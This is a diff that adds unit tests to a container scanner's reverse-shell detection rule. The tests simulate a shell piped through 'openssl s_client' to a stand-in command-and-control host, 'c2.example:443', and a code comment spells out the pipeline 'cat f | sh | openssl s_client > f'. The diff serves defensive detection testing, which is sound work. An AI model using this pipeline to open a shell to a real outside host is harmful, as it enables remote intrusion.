@@ -1,4 +1,5 @@
 using DockerScan.Core.Findings;
+using DockerScan.Sentinel.Events;
 
 namespace DockerScan.Scanners.Tests.Sandbox.Analysis.Rules;
 
@@ -44,6 +45,30 @@ public sealed class ReverseShellRuleTests
     [Fact]
     public void Find_ShellOnLoopback_IsNothing()
         => Assert.Empty(TestBehavior.Findings(new RecordBuilder().Process(1, "/bin/sh").Socket(1, "127.0.0.1", 9000, 0, 1, "tcp", 1), "behavior.reverse-shell"));
+
+    // cat f | sh | openssl s_client > f: the shell has no connection, and what goes out is not readable.
+    [Theory]
+    [InlineData("/bin/sh", "/bin/sh -i", true)]
+    [InlineData("/bin/bash", "bash", true)]
+    [InlineData("/bin/busybox", "sh", true)]
+    [InlineData("/bin/sh", "/bin/sh -c ls", false)]
+    [InlineData("/bin/bash", "bash -e /runner/step.sh", false)]
+    [InlineData("/usr/bin/sort", "sort", false)]
+    public void Find_ShellBehindAnotherProgramsConnection_IsCriticalWhenItReadsItsCommands(string executable, string command, bool isFound)
+    {
+        var record = new RecordBuilder().Process(1, "/bin/sh", "sh /x.sh").Process(4, executable, command).Process(5, "/usr/bin/openssl", "openssl s_client -connect c2.example:443")
+            .Connect(5, "198.18.0.9", 443, "c2.example", "tls", "TLS").Inspect(new StreamEvent(4, 5, 5), 3);
+
+        var found = TestBehavior.Findings(record, "behavior.reverse-shell");
+
+        Assert.Equal(isFound ? ["Reverse shell to c2.example:443: a shell's input and output lead through other programs to an outgoing connection"] : [], found.Select(each => each.Title));
+        Assert.All(found, each => Assert.Contains("goes through /usr/bin/openssl (pid 5", each.Evidence, StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public void Find_ShellBehindAConnectionThatCameIn_IsNothing()
+        => Assert.Empty(TestBehavior.Findings(new RecordBuilder().Process(1, "/usr/bin/ttyd").Listen(1, 7681).Socket(1, "192.0.2.7", 50123, 7681, 3).Process(4, "/bin/bash", "bash").Inspect(new StreamEvent(4, 1, 1), 3),
+            "behavior.reverse-shell"));
 
     [Fact]
     public void Find_OnlyThePrompt_IsFoundWithoutAProcess()
